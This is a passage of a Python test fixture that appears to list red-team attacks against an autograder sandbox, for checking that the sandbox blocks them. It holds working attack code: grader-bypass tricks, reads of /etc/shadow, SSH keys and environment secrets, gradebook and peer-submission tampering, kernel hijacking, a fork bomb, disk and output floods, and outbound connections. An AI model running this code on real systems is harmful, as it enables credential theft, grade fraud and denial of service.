"""The red team's attack table (tests/test_red_team.py grades all of it in one run).

Each attack is a submission of the tiny course (00_tiny: sgd_step worth 2 points,
momentum_step worth 3) that pairs a trick with answer code whose honest worth is
known: most define a correct ``sgd_step`` and a wrong ``momentum_step`` (EMA form:
honest worth 2), so any point above 2 is a point the trick won.

Attack code never holds a secret literally: paths it is "told" (the course root, the
gradebook, another student's submission, the repository; the worst case of an attacker
who knows the layout) are written hex-encoded, so a canary found in an output was
found by the code, not copied from its source. Attack code prints what it finds on
lines starting with ``RT``, and ``RT-BREACH`` when something the sandbox must forbid
worked (the tests fail on any ``RT-BREACH``).

Placeholders ``@NAME@`` in the code are filled by ``render`` from the fixture's
context: ``@ROOT@``, ``@GRADEBOOK@``, ``@OTHER_NB@``, ``@REPO@``, ``@HOSTIP@`` (Python
expressions giving the string), ``@GRADEBOOK_HEX@`` (the bare hex), ``@PORT@`` and
``@MARK@`` (a marker put into the command line of every process an attack leaves
behind, so the fixture can find and end exactly those).
"""
import copy
import re
from dataclasses import dataclass

from nbformat.v4 import new_code_cell

SGD = "def sgd_step(x, g, lr):\n    return x - lr * g\n"
MOMENTUM = "def momentum_step(x, g, v, lr, beta):\n    v_new = beta * v + g\n    return x - lr * v_new, v_new\n"
WRONG_MOMENTUM = ("def momentum_step(x, g, v, lr, beta):\n    v_new = beta * v + (1 - beta) * g\n"
                  "    return x - lr * v_new, v_new\n")
STUB_MOMENTUM = "def momentum_step(x, g, v, lr, beta):\n    # YOUR CODE HERE\n    raise NotImplementedError()\n"
STUB_SGD = "def sgd_step(x, g, lr):\n    # YOUR CODE HERE\n    raise NotImplementedError()\n"
MOMENTUM_TESTS = ("momentum_step_basic", "momentum_step_random")


def hexpr(text):
    """A Python expression evaluating to ``text`` that does not contain it."""
    return f'bytes.fromhex("{text.encode().hex()}").decode()'


def render(source, ctx):
    for key, value in ctx.items():
        if isinstance(value, str):
            source = source.replace(f"@{key}@", value)
    left = re.findall(r"@[A-Z_]+@", source)
    assert not left, f"unfilled placeholders {left}"
    return source


@dataclass
class Attack:
    name: str
    kind: str                 # kernel, requests, notebook, secrets, damage, files
    worth: float              # what the answer code deserves
    answers: dict             # grade_id -> source (templates, see render)
    change: object = None     # nb -> None: an edit of the notebook file
    files: object = None      # (folder, ctx) -> None: extra files in the submission folder
    flags: tuple = ()         # phrases the summary's FLAG lines must hold
    what: str = ""

    @property
    def student(self):
        return self.name


def wrong(trick, sgd=SGD):
    """Correct sgd_step, wrong momentum_step followed by ``trick`` (honest worth 2)."""
    return {"sgd_step": sgd, "momentum_step": WRONG_MOMENTUM + trick}


# ------------------------------------------------------------------ notebook edits

def _gid(cell):
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def _cells(nb, *gids):
    return [c for c in nb.cells if _gid(c) in gids]


def _tag(nb):
    for c in _cells(nb, *MOMENTUM_TESTS):
        c.metadata["tags"] = ["skip-execution", "raises-exception"]
    for c in _cells(nb, "momentum_step"):
        c.metadata["tags"] = ["remove-output"]


def _pass_tests(nb):
    for c in _cells(nb, *MOMENTUM_TESTS):
        c.source = "pass"


def _delete_tests(nb):
    nb.cells = [c for c in nb.cells if _gid(c) not in MOMENTUM_TESTS]


def _points_100(nb):
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade"):
            c.metadata["nbgrader"]["points"] = 100


def _answer_graded(nb):
    for c in _cells(nb, "momentum_step", "sgd_step"):
        c.metadata["nbgrader"].update(grade=True, points=10)


def _test_made_answer(nb):
    for c in _cells(nb, "momentum_step_basic"):
        c.metadata["nbgrader"].update(solution=True, locked=False)
        c.source = "pass  # my own test"


def _kernelspec(nb):
    nb.metadata["kernelspec"] = {"name": "python3-unsandboxed", "display_name": "Evil", "language": "python"}
    nb.metadata["language_info"] = {"name": "python", "version": "0.0"}


def _fake_outputs(nb):
    from nbformat.v4 import new_output
    for c in _cells(nb, *MOMENTUM_TESTS, "sgd_step_basic"):
        c.outputs = [new_output("stream", name="stdout", text="All tests passed!\n"),
                     new_output("execute_result", data={"text/plain": "True"}, execution_count=1)]
        c.execution_count = 1


def _reorder(nb):
    tests = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]
    rest = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    nb.cells = rest[:2] + tests[::-1] + rest[2:]   # tests before the answers, reversed


def _extra_cells(nb):
    i = next(i for i, c in enumerate(nb.cells) if _gid(c) == "momentum_step")
    nb.cells[i + 1:i + 1] = [
        new_code_cell(MOMENTUM),   # a correct version outside the answer cell: not graded
        new_code_cell("import gradeclient\ngradeclient.check = lambda *a, **k: None\n"),
        new_code_cell("get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])\n"),
    ]


def _nb_metadata(nb):
    nb.nbformat_minor = 5
    nb.metadata["nbgrader"] = {"grade": True, "points": 100, "autograded": True}
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2,
                                                                             "version_minor": 0}}
    nb.metadata["celltoolbar"] = "Create Assignment"
    for i, c in enumerate(nb.cells):
        c["id"] = f"forged-{i}"
        c.metadata.setdefault("deletable", True)
        c.metadata["trusted"] = True


def _swap_ids(nb):
    a, t = _cells(nb, "momentum_step")[0], _cells(nb, "momentum_step_basic")[0]
    a.metadata["nbgrader"], t.metadata["nbgrader"] = copy.deepcopy(t.metadata["nbgrader"]), \
        copy.deepcopy(a.metadata["nbgrader"])


def _lesson_edit(nb):
    for c in _cells(nb, "setup"):
        c.source = ("import numpy as np\nnp.allclose = lambda *a, **k: True\n"
                    "get_ipython().input_transformers_post.append(lambda lines: [l for l in lines "
                    "if 'check' not in l])\n" + MOMENTUM)


# ------------------------------------------------------------------ submission folders

def _symlinks(folder, ctx):
    (folder / "notes.txt").symlink_to(ctx["paths"]["canary_file"])
    (folder / "data.db").symlink_to(ctx["paths"]["gradebook"])
    (folder / "peer.json").symlink_to(ctx["paths"]["other_nb"])
    (folder / "config.py").symlink_to(ctx["paths"]["reference"])


def _symlink_notebook(folder, ctx):
    nb = folder / "tiny.ipynb"
    nb.unlink()
    nb.symlink_to(ctx["paths"]["other_nb"])


def _symlink_timestamp(folder, ctx):
    (folder / "timestamp.txt").symlink_to(ctx["paths"]["canary_file"])


# ------------------------------------------------------------------ kernel tricks

TRANSFORMER_BLANK = """
def _blank(lines):
    return [("pass\\n" if "check" in line else line) for line in lines]
get_ipython().input_transformers_post.append(_blank)
"""

AST_TRANSFORMER = """
import ast
class _NoChecks(ast.NodeTransformer):
    def visit_Call(self, node):
        f = node.func
        name = getattr(f, "attr", None) or getattr(f, "id", None)
        if name in ("check", "check_answer"):
            return ast.Constant(None)
        return self.generic_visit(node)
get_ipython().ast_transformers.append(_NoChecks())
def _whole_cell(lines):
    return ["pass\\n"] if any("HIDDEN TESTS" in l for l in lines) else lines
get_ipython().input_transformers_cleanup.append(_whole_cell)
"""

FAKE_MODULES = """
import sys, types
for _n in ("grad" + "eclient", "grad" + "er", "grad" + "eclient.wire"):
    _m = types.ModuleType(_n)
    _m.check = lambda *a, **k: None
    _m.check_answer = lambda *a, **k: None
    _m.send = lambda *a, **k: None
    sys.modules[_n] = _m
"""

MONKEYPATCH_CHECK = """
import gradeclient
gradeclient.check = lambda *a, **k: None
gradeclient.check_answer = lambda *a, **k: None
gradeclient._session = lambda *a, **k: None
"""

FORGE_WIRE = """
import gradeclient
from gradeclient import wire as _w
_real_send = _w.send
def _forged_send(sock, message):
    if isinstance(message, dict) and message.get("op") == "begin" and message.get("name") == "momentum_step":
        message = dict(message, name="sgd_step")   # ask for an item this cell does not grade
    if isinstance(message, dict) and message.get("op") in ("result", "raised"):
        _real_send(sock, {"op": "done"})          # claim the check is over
    return _real_send(sock, message)
_w.send = _forged_send
gradeclient.wire.send = _forged_send
"""

SETTRACE = """
import sys, ctypes, threading
def _forge_locals(frame, event, arg):
    if event == "line" and frame.f_locals.get("out") is not None:
        args = frame.f_locals.get("args") or []
        if len(args) >= 3:
            frame.f_locals["out"] = (args[0] * 1.0, args[2] * 1.0)
            ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    return _forge_locals
def _tracer(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "_call":
        return _forge_locals
    return None
sys.settrace(_tracer)
threading.settrace(_tracer)
_seen = []
def _profile(frame, event, arg):
    if event == "call" and frame.f_code.co_name in ("expected", "compare", "reference"):
        _seen.append(frame.f_code.co_name)
sys.setprofile(_profile)
"""

STACK_INSPECT = """
import gc, inspect
import numpy as np
_WANT = ("expected", "exp", "ref", "reference", "want", "target")
def momentum_step(x, g, v, lr, beta):
    found = None
    for info in inspect.stack():
        for k, val in list(info.frame.f_locals.items()):
            if k in _WANT and isinstance(val, (tuple, list)) and len(val) == 2:
                found = val
    for o in gc.get_objects():
        if isinstance(o, dict) and any(k in o for k in _WANT):
            for k in _WANT:
                if isinstance(o.get(k), (tuple, list)) and len(o.get(k)) == 2:
                    found = o[k]
    if found is not None:
        return found
    v_new = beta * v + (1 - beta) * g
    return x - lr * v_new, v_new
"""

GC_REFERENCE = """
import gc, importlib, sys
_found = [f for f in gc.get_objects() if callable(f) and getattr(f, "__name__", "") == "momentum_step"
          and "main" not in str(getattr(f, "__module__", ""))]
_mods = sorted(m for m in sys.modules if m.startswith("grad"))
print("RT reference functions found:", len(_found), "grading modules:", _mods)
for _name in ("grad" + "er.reference.momentum", "grad" + "er.reference", "grad" + "er.checks", "solutions"):
    try:
        _m = importlib.import_module(_name)
        print("RT-BREACH imported", _name, (_m.__doc__ or "")[:200])
        if hasattr(_m, "momentum_step"):
            _found.append(_m.momentum_step)
    except Exception as e:
        print("RT import", _name, "failed:", type(e).__name__)
if _found:
    momentum_step = _found[0]
"""

IMPORT_GRADER = """
try:
    import grader.reference.momentum as _ref
    momentum_step = _ref.momentum_step
    print("RT-BREACH imported the reference")
except ImportError as e:
    print("RT import grader failed:", type(e).__name__)
"""

NUMPY_PATCH = """
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *a, **k: True
np.abs = lambda a, *r, **k: 0 * np.asarray(a)
np.max = lambda *a, **k: 0.0
np.testing.assert_allclose = lambda *a, **k: None
np.asarray = (lambda _real: (lambda a, *r, **k: _real(a, *r, **k)))(np.asarray)
"""

EXIT_IN_CHECK = """
import os
def momentum_step(x, g, v, lr, beta):
    os._exit(3)
"""

SYSTEM_EXIT = """
def momentum_step(x, g, v, lr, beta):
    raise SystemExit(0)
raise SystemExit("leaving early")
"""

LYING_OBJECTS = """
import numpy as np
class _Liar:
    def __array__(self, dtype=None, copy=None):
        return np.zeros(3)
    def __float__(self):
        return 0.0
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __len__(self):
        return 3
    def __iter__(self):
        return iter([0.0, 0.0, 0.0])
    def __getitem__(self, i):
        return 0.0
    shape = property(lambda self: (3,))
class _Pair(tuple):
    def __eq__(self, other):
        return True
def momentum_step(x, g, v, lr, beta):
    return _Pair((_Liar(), _Liar()))
"""

LYING_NDARRAY = """
import numpy as np
class _Always(np.ndarray):
    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)
    def __array_finalize__(self, obj):
        pass
class _Num(float):
    def __eq__(self, other):
        return True
    __hash__ = float.__hash__
def momentum_step(x, g, v, lr, beta):
    v_new = beta * v + (1 - beta) * g
    return (x - lr * v_new).view(_Always), v_new.view(_Always)
"""

HOSTILE_EXCEPTION = """
class _Weird(Exception):
    def __str__(self):
        raise ValueError("no message for you")
    def __repr__(self):
        raise ValueError("no repr either")
_Weird.__name__ = "GradingPassed" + "_" * 300
_calls = [0]
def momentum_step(x, g, v, lr, beta):
    _calls[0] += 1
    if _calls[0] % 2:
        raise _Weird()
    raise KeyboardInterrupt
"""

# ------------------------------------------------------------------ grader-request misuse

CHECK_FROM_ANSWER = """
import gradeclient
for _part in ("basic", "random"):
    try:
        gradeclient.check("momentum_step", momentum_step, _part)
        print("RT check outside a test cell returned normally")
    except Exception as e:
        print("RT check outside a test cell:", type(e).__name__)
try:
    gradeclient.check_answer("q1", 1.0)
except Exception as e:
    print("RT check_answer outside a test cell:", type(e).__name__)
"""

CHECK_FROM_THREAD = """
import importlib, threading, time
_client = importlib.import_module("grad" + "eclient")
_log = []
def _spam():
    end = time.time() + 12
    while time.time() < end:
        for part in ("basic", "random"):
            try:
                _client.check("momentum_step", momentum_step, part)
                _log.append(("ok", part))
            except Exception as e:
                _log.append((type(e).__name__, part))
        time.sleep(0.003)
threading.Thread(target=_spam, daemon=True).start()
time.sleep(0.2)
print("RT thread requests so far:", len(_log))
"""

CHECK_TWICE = """
def _twice(lines):
    out = []
    for line in lines:
        out.append(line)
        if "check(" in line and not line.lstrip().startswith("#"):
            out.append("try:\\n    " + line.strip() + "\\nexcept Exception as _e:\\n    pass\\n")
    return out
get_ipython().input_transformers_post.append(_twice)
"""

LOOKUP_TABLE = """
import importlib
_client = importlib.import_module("grad" + "eclient")
_table = {}
def _table_step(x, g, v, lr, beta):
    return _table.get((lr, beta), (x, v))
def momentum_step(x, g, v, lr, beta):
    for part in ("basic", "random"):
        try:   # a second check from inside the check: learn from the grader's calls
            _client.check("momentum_step", _table_step, part)
        except Exception:
            pass
    v_new = beta * v + (1 - beta) * g
    _table[(lr, beta)] = (x - lr * v_new, v_new)
    return x - lr * v_new, v_new
"""

FORGE_SOCKET = """
import json, os, socket, struct
_PATH = os.environ.get("GRADER_" + "SOCKET")
def _frame(msg):
    data = json.dumps(msg).encode()
    return struct.pack(">I", len(data)) + data
def _read(sock):
    head = sock.recv(4)
    if len(head) < 4:
        return None
    (n,) = struct.unpack(">I", head)
    buf = b""
    while len(buf) < n:
        chunk = sock.recv(n - len(buf))
        if not chunk:
            break
        buf += chunk
    return json.loads(buf)
def _forge(name, part):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(3)
        s.connect(_PATH)
        s.sendall(_frame({"op": "begin", "kind": "check", "name": name, "part": part,
                          "answer": {"callable": True, "params": None, "names": []}}))
        while True:
            msg = _read(s)
            if msg is None or msg.get("op") in ("done", "refused"):
                return msg and msg.get("op")
            args = msg.get("args") or [None]
            s.sendall(_frame({"op": "result", "value": args[0]}))   # echo x: a forged result
    except Exception as e:
        return type(e).__name__
print("RT forged begin from the answer cell:", _forge("momentum_step", "basic"))
def _inject(lines):
    if any("HIDDEN TESTS" in l for l in lines):
        return ["_forge('sgd_step', 'basic')\\n", "_forge('sgd_step', 'random')\\n"] + lines
    return lines
get_ipython().input_transformers_post.append(_inject)
"""

SOCKET_GARBAGE = """
import json, os, socket, struct, time
_PATH = os.environ.get("GRADER_" + "SOCKET")
def _send(payload, wait=0.3):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(_PATH)
        s.sendall(payload)
        time.sleep(wait)
        try:
            reply = s.recv(200)
        except Exception:
            reply = b""
        s.close()
        return reply[:60]
    except Exception as e:
        return type(e).__name__
def _frame(data):
    return struct.pack(">I", len(data)) + data
_results = {
    "garbage": _send(b"\\x00\\x00\\x00\\x05hello"),
    "huge-header": _send(struct.pack(">I", 2**31) + b"x" * 100),
    "not-json": _send(_frame(b"{this is not json")),
    "not-a-dict": _send(_frame(b"[1, 2, 3]")),
    "no-op": _send(_frame(json.dumps({"hello": "world"}).encode())),
    "bad-begin": _send(_frame(json.dumps({"op": "begin", "kind": "check", "name": 3}).encode())),
    "unknown-kind": _send(_frame(json.dumps({"op": "begin", "kind": "exec", "code": "1"}).encode())),
    "closed": _send(b"", wait=0),
    "big": _send(_frame(json.dumps({"op": "begin", "kind": "check", "name": "sgd_step", "part": "basic",
                                    "answer": {"junk": "z" * (40 << 20)}}).encode()), wait=1.0),
}
_held = []
for _ in range(40):   # connections that never say anything
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(_PATH)
        _held.append(s)
    except Exception:
        break
time.sleep(0.5)
for s in _held:
    s.close()
print("RT garbage replies:", _results, "held:", len(_held))
"""

MEMORY_AMPLIFICATION = """
import os, socket, struct, threading, time
_PATH = os.environ.get("GRADER_" + "SOCKET")
# 48 MB of JSON that the trusted side parses into ~12 million Python floats before it can refuse it
_body = b'{"op": "begin", "kind": "check", "name": "sgd_step", "part": "basic", "answer": [' + \\
    b"0.1," * 12_000_000 + b"0.1]}"
_frame = struct.pack(">I", len(_body)) + _body
_done = []
def _send():
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(20)
        s.connect(_PATH)
        s.sendall(_frame)
        _done.append(s.recv(100)[:40])
        s.close()
    except Exception as e:
        _done.append(type(e).__name__)
_threads = [threading.Thread(target=_send) for _ in range(4)]
for t in _threads:
    t.start()
for t in _threads:
    t.join(9)
print("RT amplification sessions:", _done)
"""

CONNECTION_FLOOD = """
import os, socket, time
_PATH = os.environ.get("GRADER_" + "SOCKET")
_held = []
for _ in range(600):   # each one is a thread of the trusted side until it times out
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(_PATH)
        _held.append(s)
    except Exception as e:
        print("RT connection flood stopped:", type(e).__name__)
        break
time.sleep(5)
print("RT connections held:", len(_held))
for s in _held:
    s.close()
"""

# ------------------------------------------------------------------ reading secrets

READ_ENVIRON = """
import os
print("RT environment keys:", sorted(os.environ))
print("RT canary variable:", os.environ.get("GRADER_" + "CANARY_ENV"))
for k, v in os.environ.items():
    if "CANARY" in k or "CANARY" in v:
        print("RT-BREACH environment holds", k, v)
print("RT environment:", dict(os.environ))
"""

READ_PROC = """
import glob, os
_pids = [p for p in os.listdir("/proc") if p.isdigit()]
print("RT processes visible:", len(_pids))
for pid in _pids:
    for part in ("cmdline", "environ"):
        try:
            data = open(f"/proc/{pid}/{part}", "rb").read().replace(b"\\0", b" ").decode(errors="replace")
        except Exception as e:
            print("RT", pid, part, type(e).__name__)
            continue
        print("RT", pid, part, data[:300])
        if "CANARY" in data or "canary" in data:
            print("RT-BREACH", pid, part, data)
try:
    print("RT mountinfo:", open("/proc/self/mountinfo").read()[:1500])
except Exception as e:
    print("RT mountinfo", type(e).__name__)
"""

READ_REPO = """
import glob, os
_repo = @REPO@
_targets = [os.path.join(_repo, p) for p in (
    "grader/reference/momentum.py", "grader/checks/steps.py", "nbgrader_config.py",
    "solutions/01_momentum/momentum.ipynb", "gradebook.db", "grader/__init__.py")]
_targets += glob.glob(os.path.join(_repo, "solutions", "*", "*.ipynb"))
_targets += glob.glob(os.path.join(_repo, "grader", "*", "*.py"))
for t in _targets:
    try:
        text = open(t, errors="replace").read()
        print("RT-BREACH read", os.path.basename(t), text[:400])
    except Exception as e:
        print("RT read", os.path.basename(t), "failed:", type(e).__name__)
print("RT repository listing:", sorted(os.listdir(_repo)) if os.path.isdir(_repo) else None)
"""

READ_COURSE = """
import glob, os, sqlite3
_root = @ROOT@
for rel in ("secret-canary.txt", "nbgrader_config.py", "solutions/00_tiny/tiny.ipynb"):
    try:
        print("RT-BREACH read", rel, open(os.path.join(_root, rel), errors="replace").read()[:3000])
    except Exception as e:
        print("RT read", rel, "failed:", type(e).__name__)
for p in glob.glob(os.path.join(_root, "submitted", "*", "*", "*.ipynb")):
    try:
        print("RT-BREACH read a submission", open(p).read()[:5000])
    except Exception as e:
        print("RT read a submission failed:", type(e).__name__)
try:
    con = sqlite3.connect("file:" + @GRADEBOOK@ + "?mode=ro", uri=True, timeout=1)
    print("RT-BREACH gradebook rows", con.execute("select * from grade").fetchall()[:20])
except Exception as e:
    print("RT gradebook failed:", type(e).__name__)
print("RT course root visible:", os.path.exists(_root))
"""

READ_HOME = """
import os
for d in ("/root", "/home", os.path.expanduser("~"), "/etc", "/var", "/opt", "/srv", "/mnt", "/media", "/run"):
    try:
        names = sorted(os.listdir(d))
    except Exception as e:
        print("RT list", d, type(e).__name__)
        continue
    print("RT list", d, names[:50])
    for n in names[:50]:
        p = os.path.join(d, n)
        if os.path.isfile(p) and os.path.getsize(p) < 4096:
            try:
                print("RT file", p, open(p, errors="replace").read()[:500])
            except Exception:
                pass
for p in ("/root/.bash_history", "/root/.ssh/id_rsa", "/root/.gitconfig", "/etc/shadow", "/etc/passwd"):
    try:
        print("RT-BREACH read", p, open(p).read()[:300])
    except Exception as e:
        print("RT read", p, type(e).__name__)
"""

FS_WALK = """
import os, time
_end = time.time() + 5
_hits = []
_skip = {"/proc", "/sys", "/dev"}
for dirpath, dirnames, filenames in os.walk("/"):
    if time.time() > _end:
        print("RT walk stopped (time)")
        break
    dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) not in _skip
                   and d not in ("site-packages", "__pycache__", "share", "include", "lib64")
                   and not (dirpath == "/usr" and d in ("lib", "libexec", "src"))]
    for f in filenames:
        low = f.lower()
        if any(w in low for w in ("canary", "gradebook", "secret", ".db", "kernel.json", "grader.sock",
                                  ".ipynb", "nbgrader_config")):
            _hits.append(os.path.join(dirpath, f))
print("RT interesting files:", _hits[:100])
for p in _hits[:40]:
    try:
        text = open(p, errors="replace").read()
    except Exception as e:
        continue
    if "canary" in text.lower() or "token" in text.lower():
        print("RT canary-like text in", p, text[:3000])
"""

READ_OWN_FILES = """
import glob, os
for p in sorted(glob.glob("/tmp/work/*") + glob.glob(os.path.expanduser("~/*")) + glob.glob("*")):
    try:
        text = open(p, errors="replace").read()
    except Exception as e:
        print("RT", p, type(e).__name__)
        continue
    print("RT own file", p, len(text), "characters")
    for line in text.splitlines():
        if any(w in line for w in ("canary", "HIDDEN", "check(", "token")):
            print("RT line of", os.path.basename(p), ":", line.strip()[:300])
"""

SYMLINK_READER = """
import glob, os
for p in sorted(glob.glob("/tmp/work/*")):
    try:
        data = open(p, "rb").read()
    except Exception as e:
        print("RT", p, type(e).__name__)
        continue
    text = data.decode(errors="replace")
    print("RT file", os.path.basename(p), len(data), "bytes:", text[:300].replace("\\n", " "))
    for line in text.splitlines():
        if "canary" in line.lower() or "token" in line.lower() or "Notebook 01" in line:
            print("RT secret-looking line:", line.strip()[:300])
"""

# ------------------------------------------------------------------ damage

WRITE_GRADEBOOK = """
import glob, os, sqlite3
_paths = [@GRADEBOOK@] + glob.glob("/tmp/**/*.db", recursive=True) + glob.glob("/tmp/*.db")
for p in _paths:
    try:
        con = sqlite3.connect(p, timeout=1)
        con.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
        con.commit()
        print("RT-BREACH wrote a gradebook", os.path.basename(p))
    except Exception as e:
        print("RT gradebook write failed:", type(e).__name__)
"""

WRITE_OTHERS = """
import glob, json, os
_other = @OTHER_NB@
try:
    with open(_other, "r+") as f:
        nb = json.load(f)
        for c in nb["cells"]:
            if c.get("metadata", {}).get("nbgrader", {}).get("solution"):
                c["source"] = "raise NotImplementedError()  # sabotaged"
        f.seek(0)
        json.dump(nb, f)
        f.truncate()
    print("RT-BREACH rewrote another student's submission")
except Exception as e:
    print("RT rewrite failed:", type(e).__name__)
for p in glob.glob(os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(_other))), "*", "*", "*")):
    try:
        open(p, "a").close()
        print("RT-BREACH could open for writing", os.path.basename(p))
    except Exception as e:
        pass
try:
    os.makedirs(os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(_other))), "zz-planted", "00_tiny"))
    print("RT made a submission folder at that path (the fixture checks whether it is the host's)")
except Exception as e:
    print("RT plant failed:", type(e).__name__)
"""

EDIT_CONFIG = """
import glob, os, site, sys
_root, _repo = @ROOT@, @REPO@
try:
    with open(os.path.join(_root, "nbgrader_config.py"), "a") as f:
        f.write("\\nc.Autograde.autograde_preprocessors = []  # red team\\n")
    print("RT-BREACH edited the course's nbgrader_config.py")
except Exception as e:
    print("RT config edit failed:", type(e).__name__)
# the repository and the environment: opened for writing but never written (non-destructive probe)
for p in [os.path.join(_repo, r) for r in ("grader/reference/momentum.py", "grader/checks/steps.py",
                                            "nbgrader_config.py", "gradeclient/__init__.py",
                                            "gradeclient/wire.py")] + \\
         glob.glob(os.path.join(sys.prefix, "lib", "python*", "site-packages", "*.pth")):
    try:
        open(p, "r+").close()
        print("RT-BREACH writable:", p)
    except Exception as e:
        print("RT not writable:", os.path.basename(p), type(e).__name__)
for d in [os.path.join(_repo, "grader", "reference"), os.path.join(_repo, "gradeclient"),
          *glob.glob(os.path.join(sys.prefix, "lib", "python*", "site-packages")), "/usr/lib", sys.base_prefix]:
    p = os.path.join(d, "zz_red_team_@MARK@.pth")
    try:
        with open(p, "x") as f:
            f.write("# red team\\n")
        print("RT-BREACH created", p)
    except Exception as e:
        print("RT cannot create in", os.path.basename(d), type(e).__name__)
"""

DETACHED = """
import os, signal, subprocess, sys, time
_M = "@MARK@"
_later = ("import os, signal, sqlite3, time\\n"
          "signal.signal(signal.SIGTERM, signal.SIG_IGN)\\nsignal.signal(signal.SIGHUP, signal.SIG_IGN)\\n"
          "time.sleep(20)\\n"
          "try:\\n    c = sqlite3.connect(bytes.fromhex('@GRADEBOOK_HEX@').decode(), timeout=1)\\n"
          "    c.execute('UPDATE grade SET auto_score = 100')\\n    c.commit()\\nexcept Exception:\\n    pass\\n"
          "time.sleep(100)\\n# " + _M + "\\n")
try:
    p = subprocess.Popen([sys.executable, "-c", _later], start_new_session=True, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    print("RT detached popen", p.pid)
except Exception as e:
    print("RT popen failed", type(e).__name__)
try:
    subprocess.Popen(["/bin/sh", "-c", "trap '' HUP TERM; sleep 120; : " + _M], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except Exception as e:
    print("RT sh failed", type(e).__name__)
_pid = os.fork()
if _pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", _later])
    finally:
        os._exit(0)
os.waitpid(_pid, 0)
print("RT double fork done")
"""

HIJACK = """
import glob, os, socket, time
_own = None
try:
    _args = open("/proc/self/cmdline", "rb").read().split(b"\\0")
    _own = os.path.realpath(os.path.dirname(_args[_args.index(b"-f") + 1].decode()))
except Exception as e:
    print("RT no own connection file:", type(e).__name__)
try:
    print("RT own sockets dir:", _own, sorted(os.listdir(_own)))
except Exception as e:
    print("RT own sockets dir:", _own, "cannot be listed:", type(e).__name__)
_seen = set()
_end = time.time() + 6
while time.time() < _end:
    for pat in ("/tmp/grade-*/k/*", "/tmp/*/k/*", "/tmp/*/*/k/*", "/proc/*/root/tmp/grade-*/k/*",
                "/tmp/grader-uids/*", "/run/user/*/*"):
        for p in glob.glob(pat):
            if _own and os.path.realpath(os.path.dirname(p)) == _own:
                continue
            if p in _seen:
                continue
            _seen.add(p)
            print("RT-BREACH another kernel's file:", p)
            if p.endswith("kernel.json"):
                try:
                    from jupyter_client import BlockingKernelClient
                    kc = BlockingKernelClient(connection_file=p)
                    kc.load_connection_file()
                    kc.start_channels()
                    kc.execute("print('hijacked')")
                    print("RT-BREACH sent an execute request to", p)
                except Exception as e:
                    print("RT kernel connect failed", type(e).__name__)
            elif p.endswith(".sock") or "kernel-" in p:
                try:
                    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                    s.connect(p)
                    print("RT-BREACH connected to", p)
                except Exception as e:
                    print("RT socket connect failed", type(e).__name__)
    time.sleep(0.2)
print("RT other kernels' files seen:", len(_seen))
"""

FORK_BOMB = """
import os, time
_kids, _why = 0, None
_end = time.time() + 2
try:
    while time.time() < _end:
        pid = os.fork()
        if pid == 0:
            try:
                if os.fork() == 0:   # the children fork too
                    time.sleep(2)
            except OSError:
                pass
            time.sleep(2)
            os._exit(0)
        _kids += 1
except OSError as e:
    _why = type(e).__name__
print("RT fork bomb stopped after", _kids, "children:", _why)
_deadline = time.time() + 5
while time.time() < _deadline:
    try:
        if os.waitpid(-1, os.WNOHANG) == (0, 0):
            time.sleep(0.05)
    except ChildProcessError:
        break
"""

DISK_FILL = """
import os, time
_chunk = b"\\0" * (16 << 20)
_total = {}
for d in ("/tmp", os.getcwd(), os.path.expanduser("~"), "/dev/shm", "/tmp/grade-fill"):
    n = 0
    try:
        os.makedirs(d, exist_ok=True)
        for i in range(8):
            with open(os.path.join(d, f"fill-{i}.bin"), "wb") as f:
                for _ in range(8):   # 128 MB a file: under the per-file limit
                    f.write(_chunk)
                    n += len(_chunk)
                    if n >= (1 << 30):
                        break
            if n >= (1 << 30):
                break
    except OSError as e:
        _total[d + " stopped"] = type(e).__name__
    _total[d] = n >> 20
print("RT MB written:", _total)
"""

STDERR_FLOOD = """
import os
_chunk = b"e" * (1 << 20)
_n = 0
try:
    for _ in range(64):
        os.write(2, _chunk)
        _n += 1
except OSError as e:
    print("RT stderr flood stopped:", type(e).__name__)
print("RT MB written to the kernel's stderr:", _n)
"""

OUTPUT_FLOOD = """
import sys, time
_chunk = "y" * (1 << 20)
_end = time.time() + 3
_n = 0
while time.time() < _end and _n < 1500:
    sys.stdout.write(_chunk)
    _n += 1
sys.stdout.flush()
print("\\nRT MB printed:", _n)
"""

NETWORK = """
import socket
_targets = [("127.0.0.1", @PORT@), (@HOSTIP@, @PORT@), ("10.0.2.2", 80), ("1.1.1.1", 53), ("8.8.8.8", 53),
            ("::1", @PORT@)]
for host, port in _targets:
    try:
        s = socket.create_connection((host, port), timeout=1)
        s.sendall(b"red team was here")
        print("RT-BREACH connected to", host, port)
        s.close()
    except Exception as e:
        print("RT connect", port, type(e).__name__)
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"red team", ("127.0.0.1", @PORT@))
